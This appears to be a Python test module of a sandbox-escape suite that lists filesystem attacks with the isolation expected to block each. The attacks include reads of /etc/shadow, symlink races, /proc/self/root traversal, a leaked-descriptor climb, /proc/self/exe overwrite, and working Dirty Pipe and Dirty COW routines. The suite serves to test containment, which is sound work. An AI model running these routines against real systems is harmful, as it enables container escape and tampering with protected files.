"""Attacks on files: to write or read outside of what is the command's own.

Owns: numbers 1 to 18 of the corpus but those of plants.py, and files that later CVEs went for.
Must not know: how attacks are run and told.
Invariant: what an attack could write, were it let, is a canary or an empty file of its own name that it removes.
Source: the numbers of the corpus; each CVE is named at its case.
"""

# ruff: noqa: E501, S108 (an attack is one expression a line; its paths and addresses are the point)

from __future__ import annotations

import os
from collections.abc import Mapping
from typing import Any, Final

from ..case import Act, Case
from ..ground import Ground

_NO: Final = ("EACCES", "EROFS", "EPERM")
_NOT_THERE: Final = (*_NO, "ENOENT", "ENOTDIR")


def _links_out(ground: Ground) -> Mapping[str, Any]:
    os.symlink(ground.canary, ground.workspace / "link")
    os.symlink(ground.outside, ground.workspace / "linked")
    return {}


CASES: Final = (
    Case(
        "write-outside", (1,), "write outside the workspace", "read-only root, mounts",
        acts=(
            *(Act(f"create in {place}", f"creating(os.path.join({place!r}, NAME))", _NOT_THERE)
              for place in ("/", "/usr", "/usr/bin", "/etc", "/var", "/home", "/root", "/opt", "/run", "/proc")),
            Act("append to a file outside", "writing(CANARY)", _NOT_THERE),
            Act("create beside it", "creating(os.path.join(OUTSIDE, NAME))", _NOT_THERE),
            *(Act(f"open {path}", f"opening({path!r}, os.O_WRONLY)", _NOT_THERE)
              for path in ("/etc/passwd", "/etc/ld.so.cache", "/usr/bin/env")),
        ),
        vehicles=("command", "terminal", "builtin"),
    ),
    Case(
        "read-outside", (65,), "read the user's files outside the workspace", "mount namespace",
        acts=(
            Act("read a secret", "reading(SECRET) and 'read'", _NOT_THERE),
            Act("list its folder", "len(os.listdir(OUTSIDE)) > 1 and 'listed' or 'ENOENT'", _NOT_THERE),
            Act("read /etc/shadow", "reading('/etc/shadow') and 'read'", _NOT_THERE),
            Act("read /etc/machine-id", "reading('/etc/machine-id') and 'read'", _NOT_THERE),
            Act("read the host's name", "os.uname().nodename == HOST_NAME and 'read' or 'hidden'", ("hidden",)),
        ),
        prepare=lambda _: {"HOST_NAME": os.uname().nodename},
        vehicles=("command", "builtin"),
    ),
    Case(
        "symlink-out", (2,), "a symlink out of the workspace, followed", "mount namespace",
        prepare=_links_out,
        acts=(
            Act("write through it", "writing('link')", _NOT_THERE),
            Act("create through a folder", "creating(os.path.join('linked', NAME))", _NOT_THERE),
            Act("truncate through it", "os.truncate('link', 0)", _NOT_THERE),
            Act("chmod through it", "os.chmod('link', 0o777)", _NOT_THERE),
            Act("write through a link to /", "os.symlink('/', 'r') or writing('r' + CANARY)", _NOT_THERE),
        ),
        vehicles=("command", "builtin"),
    ),
    Case(
        "symlink-race", (3,), "a symlink swapped while it is followed", "mount namespace",
        setup="""
os.mkdir("d"); os.symlink(OUTSIDE, "l")
def race():
    end = time.monotonic() + 0.3
    swapper = os.fork()
    if swapper == 0:
        while time.monotonic() < end:
            os.rename("d", "t"); os.rename("l", "d"); os.rename("d", "l"); os.rename("t", "d")
        os._exit(0)
    hit = 0
    while time.monotonic() < end:
        try:
            with open("d/canary", "ab", buffering=0) as file:
                file.write(b"x")
        except OSError:
            pass  # refused or over: the examination tells
    os.waitpid(swapper, 0)
    return "raced"
""",
        acts=(Act("race", "race()", ("raced",)),),
    ),
    Case(
        "proc-root", (8,), "/proc/self/{root,cwd} as names of the host", "mount namespace",
        acts=(
            Act("write through root", "writing('/proc/self/root' + CANARY)", _NOT_THERE),
            Act("create through root", "creating('/proc/self/root' + '/usr/' + NAME)", _NOT_THERE),
            Act("up from the cwd", "writing('/proc/self/cwd/../../..' + CANARY)", _NOT_THERE),
            Act("a thread's root", "writing('/proc/thread-self/root' + CANARY)", _NOT_THERE),
        ),
    ),
    Case(
        "dots", (9,), "the way up by ..", "mount namespace",
        acts=(
            Act("relative", "writing('../' * 20 + CANARY)", _NOT_THERE),
            Act("in the middle", "writing('/usr/..' + CANARY)", _NOT_THERE),
            Act("by a descriptor",
                "os.close(os.open('../' * 9 + CANARY.lstrip('/'), os.O_WRONLY, dir_fd=os.open('.', os.O_RDONLY)))",
                _NOT_THERE),
        ),
    ),
    Case(
        "make-device", (12,), "make or use a device", "seccomp, user ns",
        acts=(
            Act("character device", "os.mknod('/tmp/d', 0o20666, os.makedev(1, 5))"),
            Act("block device", "os.mknod('/tmp/b', 0o60666, os.makedev(8, 0))"),
            Act("in the workspace", "os.mknod('w', 0o20666, os.makedev(1, 5))"),
            Act("a whiteout", "os.mknod('w', 0o20666, os.makedev(0, 0))"),
            Act("a regular file by mknod", "os.mknod('r', 0o100666)", ("EPERM", "OK")),
        ),
    ),
    Case(
        "devices", (66,), "devices of the host", "own /dev",
        setup="""
HARMLESS = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "console"}
def devices():
    "Those that could be opened; none is: opening a watchdog or a tape does something."
    found = []
    for folder, folders, names in os.walk("/dev"):
        folders[:] = [name for name in folders if name not in ("pts", "fd")]
        for name in names:
            path = os.path.join(folder, name)
            if name in HARMLESS or os.path.islink(path) or not os.access(path, os.R_OK):
                continue
            if os.stat(path).st_mode & 0o170000 in (0o20000, 0o60000) and not os.statvfs(path).f_flag & 4:
                found.append(name)
    return ",".join(sorted(found)[:5]) or "none"
""",
        acts=(
            Act("open any other", "devices()", ("none",)),
            Act("write the kernel's log", "opening('/dev/kmsg', os.O_WRONLY)", _NOT_THERE),
            Act("memory", "opening('/dev/mem', os.O_RDONLY)", _NOT_THERE),
            Act("the host's terminal", "os.write(os.open(TTY, os.O_RDWR | os.O_NOCTTY), b'attacked') and 'written'",
                (*_NOT_THERE, "EIO", "ENXIO")),
        ),
    ),
    Case(
        "setuid", (13,), "a setuid program gives power", "no_new_privs, nosuid",
        setup="""
def status(*names):
    lines = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
    return " ".join(lines[name] for name in names)
""",
        acts=(
            Act("no_new_privs", "status('NoNewPrivs')", ("1",)),
            Act("capabilities held", "status('CapPrm', 'CapEff', 'CapInh', 'CapAmb')", (" ".join(["0" * 16] * 4),)),
            Act("capabilities to gain", "status('CapBnd')", ("0" * 16,)),
            *(Act(f"{path} is nosuid", f"'nosuid' if os.statvfs({path!r}).f_flag & os.ST_NOSUID else 'suid'",
                  ("nosuid",)) for path in ("/usr", "/tmp", ".")),
            Act("become root", "os.setresuid(0, 0, 0)", ("EPERM", "EINVAL")),
            Act("another group", "os.setgroups([0])"),
        ),
    ),
    Case(
        "descriptors", (14,), "a descriptor left open by the parent", "descriptors closed", like="CVE-2024-21626",
        setup="""
def leaked():
    "All that is open beside 0, 1 and 2; nothing of this program's own is."
    found = [fd for fd in range(3, 256) if os.path.exists(f"/proc/self/fd/{fd}")]
    return ",".join(os.readlink(f"/proc/self/fd/{fd}") for fd in found) or "none"
def climb():
    for fd in range(3, 256):
        try:
            os.close(os.open("canary", os.O_WRONLY, dir_fd=fd))
        except OSError:
            continue
        return "reached"
    return "nowhere"
""",
        acts=(Act("open descriptors", "leaked()", ("none",), here=True), Act("climb from one", "climb()", ("nowhere",))),
        vehicles=("command", "terminal", "builtin"),
    ),
    Case(
        "reopen", (15,), "reopen a read-only descriptor for writing", "Landlock",
        acts=(
            Act("by /proc/self/fd/0", "writing('/proc/self/fd/0')", _NO),
            Act("by /dev/stdin", "writing('/dev/stdin')", _NO),
            Act("truncate it", "os.truncate('/proc/self/fd/0', 0)", _NO),
            Act("ftruncate it", "os.ftruncate(0, 0)", (*_NO, "EINVAL", "EBADF")),
            Act("change its mode", "os.chmod('/proc/self/fd/0', 0o777)", ("OK", *_NO)),
        ),
    ),
    Case(
        "truncate", (16,), "truncate without opening", "read-only root",
        acts=(
            *(Act(path, f"os.truncate({path!r}, os.stat({path!r}).st_size)", _NOT_THERE)
              for path in ("/usr/bin/env", "/etc/passwd")),
            Act("a shown file", "os.truncate(SHOWN, 0)", _NO),
            Act("a shown file's times", "os.utime(SHOWN)", _NO),
            Act("a shown file's mode", "os.chmod(SHOWN, 0o777)", _NO),
        ),
    ),
    Case(
        "fill-disk", (17,), "fill the disk and the inodes", "tmpfs sizes, rlimits",
        tmp_bytes=1 << 20, tmp_inodes=64,
        setup="""
def fill(path, most):
    try:
        with open(path, "wb", buffering=0) as file:
            for _ in range(most >> 16):
                if file.write(bytes(65536)) < 65536:
                    return "ENOSPC"
    finally:
        os.unlink(path)
def nodes(folder, most):
    made = []
    try:
        for i in range(most):
            os.close(os.open(f"{folder}/{NAME}{i}", os.O_CREAT | os.O_WRONLY)); made.append(i)
    finally:
        for i in made:
            os.unlink(f"{folder}/{NAME}{i}")
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
""",
        acts=(
            Act("8 MB into /tmp", "fill('/tmp/' + NAME, 8 << 20)", ("ENOSPC", "EFBIG")),
            Act("500 files in /tmp", "nodes('/tmp', 500)", ("ENOSPC",)),
            Act("a file of 24 MB in the workspace", "fill('big', 24 << 20)", ("EFBIG", "ENOSPC", "EDQUOT")),
            Act("a sparse file of 1 TB", "os.truncate('t', 1 << 40) if writing('t') is None else 0", ("EFBIG",)),
        ),
    ),
    Case(
        "host-shm", (18,), "the host's /dev/shm", "own /dev/shm",
        acts=(
            Act("read it", "reading(SHARED) and 'read'", _NOT_THERE),
            Act("write it", "writing(SHARED)", ("OK", *_NOT_THERE)),
        ),
    ),
    Case(
        "own-program", (69,), "overwrite the program that started it", "read-only root", like="CVE-2019-5736",
        acts=(
            Act("/proc/self/exe", "opening('/proc/self/exe', os.O_WRONLY)", (*_NO, "ETXTBSY")),
            Act("/proc/1/exe", "opening('/proc/1/exe', os.O_WRONLY)", (*_NO, "ETXTBSY")),
            Act("by its path", "opening(os.readlink('/proc/self/exe'), os.O_WRONLY)", (*_NO, "ETXTBSY", "ENOENT")),
        ),
        vehicles=("command", "builtin"),
    ),
    Case(
        "page-cache", (70,), "write a read-only file by the page cache", "kernel", like="CVE-2022-0847, CVE-2016-5195",
        setup="""
def dirty_pipe():
    mine, its = os.pipe()
    size = fcntl.fcntl(its, 1032)
    for _ in range(size // 4096): os.write(its, bytes(4096))
    for _ in range(size // 4096): os.read(mine, 4096)
    fd = os.open(SHOWN, os.O_RDONLY)
    os.splice(fd, its, 1, offset_src=0)
    os.write(its, b"attacked")
    return "attacked" if b"attacked" in reading(SHOWN) else "whole"
def dirty_cow():
    fd = os.open(SHOWN, os.O_RDONLY)
    memory = mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    where = [int(line.split("-")[0], 16) for line in open("/proc/self/maps") if line.rstrip().endswith("/shown")]
    end, own = time.monotonic() + 0.15, os.open("/proc/self/mem", os.O_RDWR)
    pid = os.fork()
    while time.monotonic() < end:
        if pid == 0: memory.madvise(mmap.MADV_DONTNEED)
        else:
            os.pwrite(own, b"attacked", where[0])
    if pid == 0: os._exit(0)
    os.waitpid(pid, 0)
    return "attacked" if b"attacked" in reading(SHOWN) else "whole"
""",
        acts=(Act("Dirty Pipe", "dirty_pipe()", ("whole", *_NO)), Act("Dirty COW", "dirty_cow()", ("whole", *_NO))),
    ),
)  # fmt: skip
